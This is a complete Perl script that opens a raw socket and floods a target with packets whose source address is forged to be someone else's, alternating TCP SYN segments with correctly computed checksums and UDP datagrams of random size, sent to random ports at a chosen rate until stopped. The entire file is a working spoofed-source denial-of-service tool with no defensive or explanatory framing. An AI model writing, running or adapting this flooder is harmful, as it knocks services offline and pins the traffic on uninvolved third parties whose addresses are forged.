#!/usr/bin/perl
# forge.pl FROM TO FIRST RATE: IPv4 packets that carry another's address: SYNs and UDP datagrams in turn, from random
# ports to random ones of the span that begins at FIRST, RATE a second until it is ended. Then prints "N in SECONDS".
use strict;
use warnings;
use Socket;
use Time::HiRes qw(time sleep);

my ($from, $to, $first, $rate) = @ARGV;
my ($source, $target) = map { inet_aton($_) } $from, $to;
my $tick = 0.01;

sub checksum {
    my $sum = 0;
    $sum += $_ for unpack 'n*', $_[0];
    $sum = ($sum >> 16) + ($sum & 0xffff) while $sum >> 16;
    return ~$sum & 0xffff;
}

# A SYN with its checksum, which covers the addresses as well.
sub tcp {
    my $segment = pack 'nnNNCCnnn', 1024 + rand 64512, $first + rand 12288, rand 2**32, 0, 5 << 4, 2, 64240, 0, 0;
    my $sum = checksum($source . $target . pack('nn', 6, length $segment) . $segment);
    substr $segment, 16, 2, pack 'n', $sum;
    return $segment;
}

# Without a checksum, which UDP permits.
sub udp {
    my $length = int rand 1024;
    return pack "nnnnx$length", 1024 + rand 64512, $first + rand 12288, 8 + $length, 0;
}

# The kernel fills in length, identification and checksum.
sub datagram {
    my ($proto, $payload) = @_;
    return pack('CCnnnCCn', 0x45, 0, 0, 0, 0, 64, $proto, 0) . $source . $target . $payload;
}

socket(my $raw, AF_INET, SOCK_RAW, 255) or die "raw socket: $!\n";
my ($begin, $sent, $ended) = (time, 0, 0);
$SIG{TERM} = sub { $ended = 1 };
until ($ended) {
    for (; $sent < (time - $begin) * $rate; $sent++) {
        my $packet = $sent % 2 ? datagram(6, tcp()) : datagram(17, udp());
        send $raw, $packet, 0, pack_sockaddr_in(0, $target) or die "can't send: $!\n";
    }
    sleep $tick;
}
printf "%d in %d\n", $sent, time - $begin;
